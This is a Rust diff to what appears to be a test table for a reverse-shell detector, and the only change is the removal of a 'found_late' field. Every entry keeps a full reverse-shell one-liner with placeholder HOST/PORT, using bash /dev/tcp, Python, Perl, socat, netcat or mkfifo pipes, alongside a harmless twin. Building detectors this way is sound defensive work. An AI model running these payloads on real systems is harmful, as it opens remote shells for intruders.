@@ -30,9 +30,6 @@ pub struct Kind {
     pub attack: &'static [&'static str],
     /// Whom the alert names.
     pub culprit: Culprit,
-    /// The sensor finds it also when it began before the sensor did. A loop of pipes is only known by its connect event:
-    /// `docs/detectors.md`, known misses.
-    pub found_late: bool,
     /// Where the twin calls, and its argument vector: the same tool and shape without the one property.
     pub twin: (Line, &'static [&'static str]),
 }
@@ -80,7 +77,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["bash", "-c", "bash -i >& /dev/tcp/HOST/PORT 0>&1"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: BASH_ON_FIFOS,
     },
     Kind {
@@ -89,7 +85,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp6,
         attack: &["bash", "-c", "bash -i >& /dev/tcp/HOST/PORT 0>&1"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: BASH_ON_FIFOS,
     },
     Kind {
@@ -98,7 +93,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Udp4,
         attack: &["bash", "-c", "bash -i >& /dev/udp/HOST/PORT 0>&1"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: BASH_ON_FIFOS,
     },
     Kind {
@@ -107,7 +101,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["bash", "-c", "exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read line; do $line 2>&5 >&5; done"],
         culprit: Culprit::First,
-        found_late: true,
         twin: (Line::Fifos, &["bash", "-c", "exec 5<PATH/in 6>PATH/out; cat <&5 | while read line; do $line 2>&6 >&6; done"]),
     },
     Kind {
@@ -116,7 +109,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["bash", "-c", "exec 5<>/dev/tcp/HOST/PORT; sh -i <&5 >&5 2>&5"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: (Line::Fifos, &["bash", "-c", "exec 5<PATH/in 6>PATH/out; sh -i <&5 >&6 2>&6"]),
     },
     Kind {
@@ -130,7 +122,6 @@ pub const KINDS: &[Kind] = &[
              [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
         ],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: PYTHON_ON_UNIX,
     },
     Kind {
@@ -144,7 +135,6 @@ pub const KINDS: &[Kind] = &[
              [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
         ],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: PYTHON_ON_UNIX,
     },
     Kind {
@@ -158,7 +148,6 @@ pub const KINDS: &[Kind] = &[
              [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')",
         ],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: (
             Line::Unix,
             &[
@@ -180,7 +169,6 @@ pub const KINDS: &[Kind] = &[
              open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');",
         ],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: (
             Line::Unix,
             &[
@@ -191,23 +179,14 @@ pub const KINDS: &[Kind] = &[
             ],
         ),
     },
-    Kind { name: "node", tool: NODE, line: Line::Tcp4, attack: NODE_ON_TCP, culprit: Culprit::Shell, found_late: true, twin: NODE_ON_UNIX },
-    Kind {
-        name: "node_ipv6",
-        tool: NODE,
-        line: Line::Tcp6,
-        attack: NODE_ON_TCP,
-        culprit: Culprit::Shell,
-        found_late: true,
-        twin: NODE_ON_UNIX,
-    },
+    Kind { name: "node", tool: NODE, line: Line::Tcp4, attack: NODE_ON_TCP, culprit: Culprit::Shell, twin: NODE_ON_UNIX },
+    Kind { name: "node_ipv6", tool: NODE, line: Line::Tcp6, attack: NODE_ON_TCP, culprit: Culprit::Shell, twin: NODE_ON_UNIX },
     Kind {
         name: "socat",
         tool: SOCAT,
         line: Line::Tcp4,
         attack: &["socat", "TCP:HOST:PORT", "EXEC:/bin/sh"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: SOCAT_ON_UNIX,
     },
     Kind {
@@ -216,7 +195,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp6,
         attack: &["socat", "TCP6:[HOST]:PORT", "EXEC:/bin/sh"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: SOCAT_ON_UNIX,
     },
     Kind {
@@ -225,7 +203,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Udp4,
         attack: &["socat", "UDP:HOST:PORT", "EXEC:sh -i,stderr"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: SOCAT_ON_UNIX,
     },
     Kind {
@@ -234,7 +211,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["socat", "TCP:HOST:PORT", "EXEC:bash,pty,stderr,setsid,sigint,sane"],
         culprit: Culprit::Shell,
-        found_late: true,
         twin: (Line::Unix, &["socat", "UNIX-CONNECT:PATH", "EXEC:bash,pty,stderr,setsid,sigint,sane"]),
     },
     Kind {
@@ -243,7 +219,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["nc.traditional", "-e", "/bin/sh", "HOST", "PORT"],
         culprit: Culprit::Shell,
-        found_late: true,
         // This nc knows no UNIX sockets: the twin runs something on the connection that takes no commands.
         twin: (Line::Tcp4, &["nc.traditional", "-e", "/bin/cat", "HOST", "PORT"]),
     },
@@ -253,7 +228,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Udp4,
         attack: &["nc.traditional", "-u", "-c", "exec sh -i 2>&1", "HOST", "PORT"],
         culprit: Culprit::Shell,
-        found_late: true,
         // `-c` itself runs `/bin/sh -c` on the socket, which is the same finding; so the twin has to be `-e` with no shell.
         twin: (Line::Tcp4, &["nc.traditional", "-e", "/bin/cat", "HOST", "PORT"]),
     },
@@ -263,7 +237,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp4,
         attack: &["sh", "-c", "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc.openbsd HOST PORT > DIR/f"],
         culprit: Culprit::Shell,
-        found_late: false,
         twin: (Line::Unix, &["sh", "-c", "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc.openbsd -U PATH > DIR/f"]),
     },
     Kind {
@@ -272,7 +245,6 @@ pub const KINDS: &[Kind] = &[
         line: Line::Tcp6,
         attack: &["sh", "-c", "mkfifo DIR/f; sh -i < DIR/f 2>&1 | nc.openbsd HOST PORT > DIR/f"],
         culprit: Culprit::Shell,
-        found_late: false,
         twin: (Line::Unix, &["sh", "-c", "mkfifo DIR/f; sh -i < DIR/f 2>&1 | nc.openbsd -U PATH > DIR/f"]),
     },
 ];
